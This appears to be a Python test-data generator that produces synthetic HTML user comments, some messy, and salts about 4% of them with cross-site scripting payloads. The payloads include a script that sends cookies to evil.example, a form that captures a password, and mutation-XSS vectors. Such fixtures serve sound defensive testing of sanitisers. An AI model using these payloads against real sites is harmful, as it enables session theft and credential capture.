"""Makes comments as people write them, and some as attackers do: about 200 bytes each, always the same for a number."""

from __future__ import annotations

import random
from collections.abc import Iterator

import pyarrow as pa

WORDS = (
    "a after again all also and another answer as at bread but by café carefully clearly coffee could day each early enough "
    "evening every for friend from garden good great have help here idea if in is it kitchen last later less letter little "
    "long made many maybe more morning much naïve never new nice not now of often on once only or other our out over page "
    "part people perhaps photo picture place plain quite rather read really river same second see short side simple small "
    "so some soon still story summer table than thank that the their then there these this though time to today together "
    "too train twice under until useful very village walk was water way we well when where which while window winter with "
    "without word work would year yes you your"
).split()
TAGS = ("b", "i", "em", "strong", "code", "q", "del")
ATTACKS = (
    "<script>document.location='https://evil.example/?'+document.cookie</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">a prize</a>',
    '<b onmouseover="alert(1)" style="position:fixed">look</b>',
    '<iframe src="https://evil.example/"></iframe>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<form action=https://evil.example/><input name=password></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
)
CLUTTER = (
    '<span class="c1">and</span>',
    '<font color="#333">or</font>',
    "<!-- pasted -->",
    '<p style="margin:0">',
    "<o:p></o:p>",
    '<div align="center">',
)


def comment(number: int) -> str:
    """Return a comment. Of 100 comments, about 4 contain an attack; of 5,000, one is too long."""
    chance = random.Random(number)
    parts = [piece(chance) for _ in range(chance.randrange(1, 8))]
    if chance.random() < 0.04:
        parts.insert(chance.randrange(len(parts) + 1), chance.choice(ATTACKS))
    html = " ".join(parts)
    return html * 200 if chance.random() < 0.0002 else html


def piece(chance: random.Random) -> str:
    """Return a sentence, or a part of one, perhaps with markup."""
    some = " ".join(chance.choices(WORDS, k=chance.randrange(2, 12)))
    kind = chance.random()
    if kind < 0.55:
        return f"{some.capitalize()}."
    if kind < 0.70:
        return f"<p>{some.capitalize()}.</p>"
    if kind < 0.82:
        tag = chance.choice(TAGS)
        return f"<{tag}>{some}</{tag}>"
    if kind < 0.88:
        tracking = chance.choice(("", "?utm_source=mail", "?page=2&amp;part=1"))
        return f'<a href="https://example.org/{chance.choice(WORDS)}{tracking}">{some}</a>'
    if kind < 0.91:
        return f"<ul><li>{some}<li>{some}</ul>"
    if kind < 0.94:
        return f"{some} &amp; {chance.choice(('😀', '👍', '<3', '&copy;', 'www.example.com'))}"
    return f"{some} {chance.choice(CLUTTER)}"


def make(batches: Iterator[pa.RecordBatch]) -> Iterator[pa.RecordBatch]:
    """Return batches with the comments of the numbers in the column `id`, for `DataFrame.mapInArrow`."""
    for batch in batches:
        bodies = pa.array(map(comment, batch.column(0).to_pylist()), pa.string())
        yield pa.RecordBatch.from_arrays([batch.column(0), bodies], ["id", "body"])
